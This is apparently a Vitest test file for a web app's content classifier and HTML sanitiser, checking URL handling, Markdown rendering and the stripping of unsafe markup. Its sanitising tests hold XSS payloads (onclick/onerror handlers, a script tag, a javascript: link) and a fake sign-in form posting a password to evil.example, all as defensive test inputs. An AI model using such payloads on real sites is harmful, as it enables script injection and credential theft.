import { describe, expect, it } from 'vitest';
import { classifyContent, renderMarkdown } from './content';
import { sanitizeHtml } from './sanitize';

describe('classifyContent', () => {
  it('treats blank content as empty', () => {
    expect(classifyContent('')).toEqual({ kind: 'empty' });
    expect(classifyContent('   ')).toEqual({ kind: 'empty' });
    expect(classifyContent(null)).toEqual({ kind: 'empty' });
  });
  it('shows an https URL in an iframe', () => {
    expect(classifyContent('https://example.com/home')).toEqual({ kind: 'url', url: 'https://example.com/home' });
  });
  it('does not iframe plain http or text that merely starts with a URL', () => {
    expect(classifyContent('http://example.com').kind).toBe('html');
    expect(classifyContent('https://example.com and more').kind).toBe('html');
  });
  it('renders Markdown', () => {
    const result = classifyContent('# Title\n\n**bold**');
    expect(result.kind).toBe('html');
    if (result.kind === 'html') {
      expect(result.html).toContain('<h1>Title</h1>');
      expect(result.html).toContain('<strong>bold</strong>');
    }
  });
});

describe('sanitising', () => {
  it('strips scripts and event handlers from HTML', () => {
    const html = sanitizeHtml('<p onclick="alert(1)">hi</p><script>alert(1)</script><img src=x onerror="alert(1)">');
    expect(html).not.toContain('script');
    expect(html).not.toContain('onclick');
    expect(html).not.toContain('onerror');
    expect(html).toContain('<p>hi</p>');
  });
  it('drops forms and form controls (a fake sign-in posting elsewhere), keeps the admin\u2019s styles', () => {
    const html = sanitizeHtml('<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form><style>.x{color:red}</style><p style="color:red">ok</p>');
    expect(html).not.toMatch(/<form|<input|<button|evil\.example/);
    expect(html).toContain('<style>');
    expect(html).toContain('<p style="color:red">ok</p>');
  });
  it('strips javascript: links in Markdown', () => {
    expect(renderMarkdown('[x](javascript:alert(1))')).not.toContain('javascript:');
  });
  it('keeps target=_blank but adds rel=noopener', () => {
    const html = sanitizeHtml('<a href="https://a.example" target="_blank">a</a>');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer"');
  });
});
